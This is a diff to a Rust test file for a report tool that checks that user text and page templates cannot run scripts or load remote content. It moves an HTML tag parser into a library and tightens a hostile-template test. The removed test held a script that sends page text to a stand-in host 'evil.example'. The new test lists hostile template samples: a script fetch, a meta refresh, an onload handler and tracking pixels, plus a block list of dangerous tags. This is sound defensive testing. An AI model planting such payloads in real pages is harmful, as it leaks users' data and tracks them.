@@ -4,6 +4,7 @@
 
 mod common;
 
+use coach::render::page_check::{self, tags};
 use common::{Run, Sandbox};
 use pulldown_cmark::{Event, Parser, Tag};
 
@@ -260,71 +261,6 @@ fn templates_list_names_every_file_and_its_use() {
 
 // 3. Output loads and runs nothing.
 
-/// The elements an HTML text would make, with their attributes (names lowercased):
-/// escaped text has no `<`, so only real tags are found.
-fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
-    let mut found = Vec::new();
-    for piece in html.split('<').skip(1) {
-        if !piece.starts_with(|c: char| c.is_ascii_alphabetic()) {
-            continue;
-        }
-        let mut chars = piece.chars().peekable();
-        let mut name = String::new();
-        while let Some(&c) = chars.peek() {
-            if c.is_whitespace() || c == '>' || c == '/' {
-                break;
-            }
-            name.push(c.to_ascii_lowercase());
-            chars.next();
-        }
-        let mut attributes = Vec::new();
-        loop {
-            while chars.peek().is_some_and(|c| c.is_whitespace() || *c == '/') {
-                chars.next();
-            }
-            match chars.peek() {
-                None | Some('>') => break,
-                _ => {}
-            }
-            let mut attribute = String::new();
-            while let Some(&c) = chars.peek() {
-                if c.is_whitespace() || c == '=' || c == '>' {
-                    break;
-                }
-                attribute.push(c.to_ascii_lowercase());
-                chars.next();
-            }
-            let mut value = String::new();
-            if chars.peek() == Some(&'=') {
-                chars.next();
-                match chars.peek().copied() {
-                    Some(quote @ ('"' | '\'')) => {
-                        chars.next();
-                        for c in chars.by_ref() {
-                            if c == quote {
-                                break;
-                            }
-                            value.push(c);
-                        }
-                    }
-                    _ => {
-                        while let Some(&c) = chars.peek() {
-                            if c.is_whitespace() || c == '>' {
-                                break;
-                            }
-                            value.push(c);
-                            chars.next();
-                        }
-                    }
-                }
-            }
-            attributes.push((attribute, value.trim().to_ascii_lowercase()));
-        }
-        found.push((name, attributes));
-    }
-    found
-}
-
 #[test]
 fn user_text_becomes_no_link_image_script_or_remote_load() {
     let sandbox = Sandbox::sample();
@@ -374,7 +310,7 @@ fn user_text_becomes_no_link_image_script_or_remote_load() {
             } else {
                 out.clone()
             };
-            for (name, attributes) in tags(&html) {
+            for page_check::Tag { name, attributes } in tags(&html) {
                 assert!(
                     ![
                         "script", "img", "iframe", "object", "embed", "link", "base", "form"
@@ -383,6 +319,7 @@ fn user_text_becomes_no_link_image_script_or_remote_load() {
                     "{what}: <{name}>"
                 );
                 for (attribute, value) in attributes {
+                    let value = value.trim().to_ascii_lowercase();
                     assert!(!attribute.starts_with("on"), "{what}: <{name} {attribute}>");
                     assert!(attribute != "src", "{what}: <{name} src={value}>");
                     if attribute == "href" {
@@ -421,16 +358,28 @@ fn user_text_becomes_no_link_image_script_or_remote_load() {
 }
 
 #[test]
-fn a_hostile_page_template_still_runs_under_the_policy() {
-    let sandbox = Sandbox::sample();
-    sandbox.write(
-        "templates/page.html",
-        "<script>fetch('https://evil.example/'+document.body.innerText)</script><html><head></head><body>{{ body | safe }}</body></html>",
-    );
-    let html = sandbox.coach(&["summary", "8", "--format", "html"]).ok();
-    let policy = html.find("Content-Security-Policy").expect("policy");
-    let script = html.find("<script>").expect("the template's own script");
-    assert!(policy < script, "the policy comes first:\n{html}");
+fn a_page_template_that_could_run_or_load_is_refused() {
+    for hostile in [
+        "<script>fetch('https://evil.example/')</script>{{ body | safe }}",
+        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></head><body>{{ body | safe }}</body></html>",
+        "<body onload=\"x()\">{{ body | safe }}</body>",
+        "<style>main { background: url(https://evil.example/pixel.gif) }</style>{{ body | safe }}",
+        "<img src=\"https://evil.example/pixel.gif\">{{ body | safe }}",
+    ] {
+        let sandbox = Sandbox::sample();
+        sandbox.write("templates/page.html", hostile);
+        for format in ["html", "eml"] {
+            let run = sandbox.coach(&["summary", "8", "--format", format]);
+            assert_eq!(run.code(), 1, "{hostile}");
+            assert!(run.stdout().is_empty(), "{hostile}: {}", run.stdout());
+            assert!(
+                run.stderr().contains("templates/page.html: error[E092]"),
+                "{hostile}: {}",
+                run.stderr()
+            );
+        }
+        sandbox.coach(&["summary", "8", "--format", "md"]).ok();
+    }
 }
 
 // 5. Writes never follow links.
